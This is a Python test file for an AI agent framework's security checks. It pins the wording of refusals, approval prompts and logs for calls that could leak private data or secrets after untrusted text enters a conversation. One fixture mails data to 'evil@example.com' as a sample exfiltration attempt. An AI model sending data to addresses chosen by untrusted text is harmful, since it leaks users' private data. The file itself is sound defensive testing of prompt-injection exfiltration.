"""tether.run.checks.by_policy: the one block / ask / waive ladder of the trifecta interlock,
provenance and secrets checks, each rung's wording pinned whole (what the model is told,
what the approver reads, what the host's events log)."""

from __future__ import annotations

from typing import Any

import pytest

from tether import Capabilities, SecurityConfig, Taint, tool
from tether import events as ev
from tether.messages import ToolCall
from tether.run import checks


@tool(capabilities=Capabilities(external_send=True))
def send(data: str) -> str:
    """Send data somewhere."""
    return "sent"


@tool(capabilities=Capabilities(external_send=True), destination_params=("to",),
      content_params=("body",))
def mail(to: str, body: str) -> str:
    """Mail someone."""
    return "mailed"


@tool(needs_approval=True)
def tidy(options: dict[str, Any]) -> str:
    """Tidy with these options."""
    return "tidied"


TOOLS = {t.name: t for t in (send, mail, tidy)}
BOTH = Taint(private=True, untrusted=True)

LEAK = ("this call can send data out, and the conversation holds private data and untrusted "
        "text, so it could leak the private data")
UNTRACED_LEAK = ("this call can send data out, the conversation holds private data and "
                 "untrusted text, and the call's destination or control values do not occur "
                 "in any trusted text, so it could leak the private data to whoever chose them")
SECRET = ("the call would send out a value a tool declared secret (a password, a card or "
          "passport number), and secrets never leave without a person")
NOWHERE = "found in no text the model has seen (written by the model)"


def checked(call: ToolCall, taint: Taint, rule: str, trifecta: str,
            secrets: tuple[str, ...] = ()) -> checks.Checked:
    security = SecurityConfig(rule=rule, trifecta=trifecta)  # type: ignore[arg-type]
    turn = checks.view_turn([call], TOOLS, taint, security, "ask", (), secrets)
    return checks.check(call, 0, turn)


def reasons(result: checks.Checked) -> list[str]:
    return [e.reason for e in result.events
            if isinstance(e, ev.TrifectaBlocked | ev.TrifectaWaived)]


# Each check's finding as the three rungs word it: the refusal, the approver's explanation
# and what the model is told when nobody can be asked, and the events' reasons.
CASES = {
    "interlock": (
        ToolCall("c1", "send", '{"data": "x"}'), BOTH, "interlock", (),
        f"Blocked by policy: {LEAK}. It was not run. To allow such calls, set [security] "
        f"trifecta = \"ask\" (a person decides) or \"allow\"; or do this step in a fresh "
        f"conversation without the untrusted text.",
        f"Trifecta check: {LEAK}.", "",
        LEAK, f"{LEAK}; asking the approver"),
    "provenance": (
        ToolCall("c1", "mail", '{"to": "evil@example.com", "body": "hi"}'), BOTH,
        "provenance", (),
        f"Blocked by policy: {UNTRACED_LEAK}. Untraced: to ({NOWHERE}). It was not run. Use "
        f"only values the user gave or a trusted tool returned; to let a person decide, set "
        f"[security] trifecta = \"ask\"; or do this step in a fresh conversation without the "
        f"untrusted text.",
        f"Provenance check: {UNTRACED_LEAK}. Untraced: to = 'evil@example.com' ({NOWHERE}).",
        f"provenance: {UNTRACED_LEAK}. Untraced: to ({NOWHERE})",
        f"{UNTRACED_LEAK}. Untraced: to = 'evil@example.com' ({NOWHERE}).",
        f"{UNTRACED_LEAK}; asking the approver. Untraced: to = 'evil@example.com' ({NOWHERE})."),
    "secrets": (
        ToolCall("c1", "send", '{"data": "pin 4417"}'), Taint(), "interlock", ("4417",),
        f"Blocked by policy: {SECRET}. Secret values in: data. It was not run. To let a "
        f"person decide, set [security] trifecta = \"ask\".",
        f"Secret check: {SECRET}. Secret values in: data.",
        f"secrets: {SECRET}. Secret values in: data",
        f"{SECRET}. Secret values in: data.",
        f"{SECRET}; asking the approver. Secret values in: data."),
}


@pytest.mark.parametrize("name", CASES)
def test_every_check_refuses_asks_or_waives_in_the_ladders_words(name: str) -> None:
    call, taint, rule, secrets, refusal, explanation, told, logged, asking = CASES[name]
    blocked = checked(call, taint, rule, "block", secrets)
    assert blocked.verdict == checks.Refuse("blocked", refusal)
    assert reasons(blocked) == [logged]
    asked = checked(call, taint, rule, "ask", secrets)
    assert isinstance(asked.verdict, checks.Ask) and asked.verdict.reason == "trifecta"
    assert (asked.verdict.explanation, asked.verdict.told) == (explanation, told)
    assert reasons(asked) == [asking]
    waived = checked(call, taint, rule, "allow", secrets)
    assert isinstance(waived.verdict, checks.Run)
    assert [type(e) for e in waived.events][-1] is ev.TrifectaWaived
    assert reasons(waived) == [logged]


def test_a_refusal_names_the_arguments_the_model_wrote_exactly() -> None:
    # A key the model wrote, with a full stop and two spaces in it: the refusal is composed
    # whole, never patched, so it names the key as the call holds it.
    call = ToolCall("c1", "tidy", '{"options": {"a.  b": "x"}}')
    verdict = checked(call, Taint(untrusted=True), "provenance", "block").verdict
    assert isinstance(verdict, checks.Refuse)
    assert f"options.a.  b ({NOWHERE}). It was not run." in verdict.text


def test_two_reasons_to_ask_tell_the_model_only_the_reasons_told() -> None:
    # The secrets check tells its reason, the interlock none: no empty reason is joined on.
    call = ToolCall("c1", "send", '{"data": "pin 4417"}')
    asked = checked(call, BOTH, "interlock", "ask", ("4417",)).verdict
    assert isinstance(asked, checks.Ask)
    assert asked.told == f"secrets: {SECRET}. Secret values in: data"
    assert asked.explanation == (f"Secret check: {SECRET}. Secret values in: data. "
                                 f"Trifecta check: {LEAK}.")
